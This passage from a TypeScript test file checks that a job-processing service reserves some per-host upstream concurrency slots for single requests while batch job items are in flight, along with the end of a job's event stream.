    expect(events.at(-1)).toMatchObject({ event: 'end', job: { status: 'completed', counts: { done: 6 } } });
    expect(events.slice(0, -1).every((e) => e.event === 'progress')).toBe(true);
  });
});

describe('upstream hosts', () => {
  it('job items leave slots of a host to single requests: one to the same host goes through while items hold theirs', async () => {
    const hold = await startHarness({ env: { UPSTREAM_PER_HOST_CONCURRENCY: '3', JOBS_CONCURRENCY_PER_JOB: '4' } });
    const waiting: (() => void)[] = [];
    try {
      hold.replay.add(anyRepo());
      hold.replay.add(anyRepo({ onHit: (owner) => (owner === 'slots' ? new Promise<void>((r) => waiting.push(r)) : undefined) }));
      const { key } = await hold.key(50);
      const created = await call(hold, 'POST', '/v1/jobs', { key, body: { operation: OP, items: items(8, 'slots') } });
      expect(created.status).toBe(202);
      await waitFor(() => waiting.length >= 1);
      // Three slots for the host, two kept for single requests: one job item at the upstream.
      const single = await hold.rest(`${OP}?url=${encodeURIComponent(repoUrl('single', 'x'))}`, { key });
      expect(single.status).toBe(200);
      expect(waiting).toHaveLength(1);
      for (let released = 0; released < 8; released++) {
        await waitFor(() => waiting.length > 0);
        waiting.shift()!();
      }
      expect((await waitFinal(hold, key, created.body.job.id)).counts.ok).toBe(8);
    } finally {
      for (const r of waiting.splice(0)) r();
      await hold.close();
    }
  });
});
